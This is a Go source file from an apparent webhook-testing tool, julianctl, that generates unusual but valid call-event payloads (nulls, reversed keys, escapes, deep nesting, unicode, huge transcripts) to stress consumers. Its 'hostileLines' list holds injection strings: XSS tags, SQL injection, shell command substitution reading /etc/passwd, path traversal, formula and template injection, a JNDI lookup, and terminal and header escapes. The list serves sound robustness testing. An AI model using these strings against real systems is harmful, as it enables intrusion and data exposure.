package generate

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/julianctl/julianctl/pkg/jsonscan"
	"github.com/julianctl/julianctl/pkg/julian"
	"github.com/tidwall/gjson"
	"github.com/tidwall/sjson"
)

// Variant makes correct payloads of an unusual form. They pass package validate,
// strict or not; a consumer may fail on them.
type Variant struct {
	Name string
	Doc  string // one line, lower case
	make func(*Generator, Spec) ([][]byte, error)
}

// Payloads makes the next call in this form: one payload, or several to deliver one
// after the other.
func (v Variant) Payloads(g *Generator, spec Spec) ([][]byte, error) {
	bodies, err := v.make(g, spec)
	if err != nil {
		return nil, fmt.Errorf("variant %q: %w", v.Name, err)
	}
	return bodies, nil
}

// Variants is every variant. It is read, never changed.
var Variants = []Variant{
	{"minimal", "nothing that may be left out, and nothing in what may be empty", event(minimal)},
	{"maximal", "every documented field, with several items in every list", event(maximal)},
	{"nulls", "null wherever it is allowed", form(nulls)},
	{"unknown-fields", "fields that are not documented, at every level", form(unknownFields)},
	{"later-update", "two payloads of one call; the second one says more", laterUpdate},
	{"key-order", "keys in reverse order", form(keyOrder)},
	{"spaces", "white space between all tokens", form(spaces)},
	{"escapes", "slashes, and all that is not ASCII, as escapes", escaped},
	{"numbers", "fractions, exponents and more digits than a float64 holds", form(numbers)},
	{"nested", "free objects a hundred levels deep", form(nested)},
	{"unicode", "text in many scripts, emoji, combining and right-to-left", event(unicodeText)},
	{"hostile-text", "text that attacks terminals, HTML, SQL, shells and spreadsheets", event(hostileText)},
	{"many-items", "a thousand actions, outcomes and variables", event(manyItems)},
	{"huge-transcript", "a transcript of 1MiB, or of the size that is asked for", hugeTranscript},
}

// event makes payloads of events that are changed by edit.
func event(edit func(*Generator, *julian.CallEvent)) func(*Generator, Spec) ([][]byte, error) {
	return func(g *Generator, spec Spec) ([][]byte, error) {
		e := g.Event(spec)
		edit(g, &e)
		return one(Encode(e))
	}
}

// form makes payloads whose JSON is changed by edit.
func form(edit func([]byte) ([]byte, error)) func(*Generator, Spec) ([][]byte, error) {
	return func(g *Generator, spec Spec) ([][]byte, error) {
		body, err := g.Payload(spec)
		if err != nil {
			return nil, err
		}
		return one(edit(body))
	}
}

func one(body []byte, err error) ([][]byte, error) { return [][]byte{body}, err }

func minimal(_ *Generator, e *julian.CallEvent) {
	e.AgentName, e.PhoneNumberExt = "", ""
	e.CustomInputVariables, e.CRMSchedulingDetails, e.Sequence = map[string]any{}, nil, nil
	e.CallResult = julian.CallResult{
		ResultType:         e.CallResult.ResultType,
		ExtractedVariables: map[string]any{},
		AgentActions:       []julian.Action{},
		HumanActions:       []julian.Action{},
		Outcomes:           []julian.Outcome{},
	}
}

func maximal(g *Generator, e *julian.CallEvent) {
	ended := e.ScheduledAt.Add(time.Duration(e.Duration) * time.Second)
	at := func(d time.Duration) julian.Timestamp { return julian.Timestamp{Time: ended.Add(d)} }
	action := func(key, what string) julian.Action {
		return julian.Action{
			Description: what, Status: "completed", ActionKey: key, CompletedAt: stamp(ended),
			Metadata: map[string]any{"channel": "e-mail", "attempts": 1, "tags": []any{"julianctl", "test"}},
		}
	}
	e.PhoneNumberExt = "204"
	e.CustomInputVariables["crm_record"] = g.id("")
	e.CustomInputVariables["campaign"] = "julianctl"
	later := at(24 * time.Hour)
	e.RescheduledAt = &later
	r := &e.CallResult
	r.ExtractedVariables = map[string]any{
		"example__summary": r.Summary, "example__appt_time": stamp(ended.AddDate(0, 0, 7)),
		"example__team_size": 2, "example__decides": true, "example__tools": []any{"spreadsheet", "calendar"},
	}
	r.AgentActions = []julian.Action{
		action("schedule_meeting", "Scheduled follow-up meeting"),
		action("send_email", "Sent a summary by e-mail"),
	}
	r.HumanActions = []julian.Action{
		action("send_information", "Asked for the price list"),
		action("call_colleague", "Asked to have a colleague called"),
	}
	r.Outcomes = []julian.Outcome{
		{Name: "interested", Reasoning: "Asked for a meeting."},
		{Name: "qualified", Reasoning: "Misses fifteen calls a day."},
	}
	r.FollowUpMeetingDetails = &julian.FollowUpMeeting{StartTime: at(7 * 24 * time.Hour), EndTime: at(7*24*time.Hour + 30*time.Minute), HostEmail: "host@example.com"}
	e.CRMSchedulingDetails = map[string]any{"recordId": g.id(""), "ownerEmail": "owner@example.com", "synced": true}
	if e.Sequence == nil {
		e.Sequence = &julian.Sequence{SequenceID: g.id("call-sequence."), LifecycleStatus: kindOf(r.ResultType).lifecycle[0]}
	}
}

func nulls(body []byte) ([]byte, error) {
	moved := gjson.GetBytes(body, "callResult.resultType").Str == string(julian.Rescheduled)
	for _, f := range julian.Fields {
		if !f.Nullable || moved && f.Pointer == "/rescheduledAt" { // required for such a call
			continue
		}
		var err error
		if body, err = sjson.SetRawBytes(body, path(f.Pointer), []byte("null")); err != nil {
			return nil, err
		}
	}
	return body, nil
}

func unknownFields(body []byte) ([]byte, error) {
	for _, at := range []string{"", "callResult.", "callResult.agentActions.0.", "callResult.outcomes.0.", "sequence."} {
		if at != "" && !gjson.GetBytes(body, strings.TrimSuffix(at, ".")).Exists() {
			continue
		}
		for i, raw := range []string{`{"since":"v2","parts":[1,2.5,null,true]}`, `null`, `"text"`} {
			var err error
			if body, err = sjson.SetRawBytes(body, at+"julianctlField"+strconv.Itoa(i+1), []byte(raw)); err != nil {
				return nil, err
			}
		}
	}
	return body, nil
}

func laterUpdate(g *Generator, spec Spec) ([][]byte, error) {
	e := g.Event(spec)
	first, err := Encode(e)
	if err != nil {
		return nil, err
	}
	r := &e.CallResult
	r.Summary += " The recording has been listened to."
	r.ExtractedVariables["example__reviewed"] = "yes"
	r.Outcomes = append(r.Outcomes, julian.Outcome{Name: "reviewed", Reasoning: "Added when the analysis was repeated."})
	second, err := Encode(e)
	return [][]byte{first, second}, err
}

func keyOrder(body []byte) ([]byte, error) { return appendReversed(nil, gjson.ParseBytes(body)), nil }

func appendReversed(dst []byte, v gjson.Result) []byte {
	var parts [][]byte
	opening, closing := byte('['), byte(']')
	switch {
	case v.IsObject():
		opening, closing = '{', '}'
		v.ForEach(func(key, value gjson.Result) bool {
			parts = append(parts, appendReversed([]byte(key.Raw+":"), value))
			return true
		})
		slices.Reverse(parts)
	case v.IsArray():
		v.ForEach(func(_, value gjson.Result) bool {
			parts = append(parts, appendReversed(nil, value))
			return true
		})
	default:
		return append(dst, v.Raw...)
	}
	dst = append(dst, opening)
	dst = append(dst, bytes.Join(parts, []byte(","))...)
	return append(dst, closing)
}

// spaces adds no line feed: payloads are written as NDJSON.
func spaces(body []byte) ([]byte, error) {
	var b bytes.Buffer
	if err := json.Indent(&b, body, "", "\t"); err != nil {
		return nil, err
	}
	return bytes.ReplaceAll(b.Bytes(), []byte("\n"), []byte(" ")), nil
}

func escaped(g *Generator, spec Spec) ([][]byte, error) {
	e := g.Event(spec)
	unicodeText(g, &e)
	body, err := Encode(e)
	if err != nil {
		return nil, err
	}
	return one(appendASCII(nil, body), nil)
}

// appendASCII adds JSON with everything beyond ASCII, and slashes, escaped.
func appendASCII(dst, body []byte) []byte {
	for len(body) > 0 {
		r, size := utf8.DecodeRune(body)
		switch high, low := utf16.EncodeRune(r); {
		case r == '/':
			dst = append(dst, `\/`...)
		case r < utf8.RuneSelf:
			dst = append(dst, byte(r))
		case high != utf8.RuneError:
			dst = jsonscan.AppendHex(jsonscan.AppendHex(dst, high), low)
		default:
			dst = jsonscan.AppendHex(dst, r)
		}
		body = body[size:]
	}
	return dst
}

func numbers(body []byte) ([]byte, error) {
	seconds := gjson.GetBytes(body, "duration").Raw
	if seconds != "0" {
		seconds = "0." + seconds + "25e" + strconv.Itoa(len(seconds)) // 46 is written 0.4625e2
	} else {
		seconds = "0.0"
	}
	body, err := sjson.SetRawBytes(body, "duration", []byte(seconds))
	if err != nil {
		return nil, err
	}
	return sjson.SetRawBytes(body, "callResult.extractedVariables.example__numbers",
		[]byte(`[12345678901234567890,9007199254740993,1e400,1E-7,-0,0.1000000000000000055511151231257827]`))
}

func nested(body []byte) ([]byte, error) {
	const levels = 100
	deep := strings.Repeat(`{"level":[`, levels/2) + `"bottom"` + strings.Repeat(`]}`, levels/2)
	body, err := sjson.SetRawBytes(body, "customInputVariables.nested", []byte(deep))
	if err != nil {
		return nil, err
	}
	return sjson.SetRawBytes(body, "callResult.extractedVariables.nested", []byte(deep))
}

// unicodeLines is text that breaks code which cuts, counts or folds bytes or UTF-16
// units.
var unicodeLines = []string{
	"Zoë Ångström, e\u0301 beside é, ﬁ ligature, İstanbul ıssız, Straße ẞ",
	"日本語のテキスト、한국어 텍스트, 中文文本 𠮷野家",
	"Пример текста, Ελληνικό κείμενο, טקסט בעברית, نص عربي ١٢٣",
	"हिन्दी पाठ, ข้อความภาษาไทย, မြန်မာစာ",
	"👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇸🇪 ☎️ 𝒯𝑒𝓈𝓉 z̷̢͍a̸̡l̵̨g̶o",
	"non\u00a0breaking, zero\u200bwidth, soft\u00adhyphen, \u2028line separator, \ufeffmark, \U0010fffd last",
}

func unicodeText(_ *Generator, e *julian.CallEvent) { withText(e, unicodeLines) }

// hostileLines is text that is dangerous to show, run or paste unescaped.
var hostileLines = []string{
	"<script>alert('julianctl')</script><img src=x onerror=alert(1)> &amp; ]]>",
	"'; DROP TABLE calls; -- \" OR \"1\"=\"1",
	"$(touch julianctl) `touch julianctl` ; touch julianctl | cat /etc/passwd ../../etc/passwd %2e%2e%2f",
	"=1+1 @SUM(A1:A2) {{7*7}} ${7*7} %s %n {0} ${jndi:ldap://example.com/a}",
	"\x1b[31mred\x1b[0m \x1b]0;title\x07 \r overwritten \x00 nul \u202egnp.exe\u202c \u009b31m",
	"line\nbreak\r\nHeader: injected\n::error::julianctl ##[error]julianctl",
}

func hostileText(_ *Generator, e *julian.CallEvent) { withText(e, hostileLines) }

// withText puts lines into every field of free text.
func withText(e *julian.CallEvent, lines []string) {
	e.AgentName += " " + lines[0]
	e.Name += " " + lines[1]
	e.CustomInputVariables["company"] = lines[2]
	e.CustomInputVariables[lines[3]] = lines[4]
	r := &e.CallResult
	r.Summary += " " + lines[5]
	r.ExtractedVariables = map[string]any{lines[0]: lines[1], "example__list": []any{lines[2], map[string]any{lines[4]: lines[3]}}}
	r.Outcomes = []julian.Outcome{{Name: lines[4], Reasoning: lines[3]}}
	if r.Transcription != "" {
		r.Transcription += "\nUser: " + strings.Join(lines, "\nAgent: ")
	}
}

func manyItems(_ *Generator, e *julian.CallEvent) {
	const many = 1000
	r := &e.CallResult
	ended := stamp(e.ScheduledAt.Add(time.Duration(e.Duration) * time.Second))
	r.ExtractedVariables = make(map[string]any, many)
	r.AgentActions, r.Outcomes = make([]julian.Action, many), make([]julian.Outcome, many)
	for i := range many {
		n := strconv.Itoa(i + 1)
		e.CustomInputVariables["variable_"+n] = n
		r.ExtractedVariables["example__"+n] = "value " + n
		r.AgentActions[i] = julian.Action{Description: "Action " + n, Status: "completed", ActionKey: "action_" + n, CompletedAt: ended, Metadata: map[string]any{}}
		r.Outcomes[i] = julian.Outcome{Name: "outcome_" + n, Reasoning: "Reason " + n}
	}
	r.HumanActions = slices.Clone(r.AgentActions)
}

func hugeTranscript(g *Generator, spec Spec) ([][]byte, error) {
	if spec.Transcript == nil {
		spec.Transcript = &Range{Min: 1 << 20, Max: 1 << 20}
	}
	return one(g.Payload(spec))
}

// path is a JSON pointer without escapes as gjson and sjson write it.
func path(pointer string) string { return strings.ReplaceAll(pointer[1:], "/", ".") }
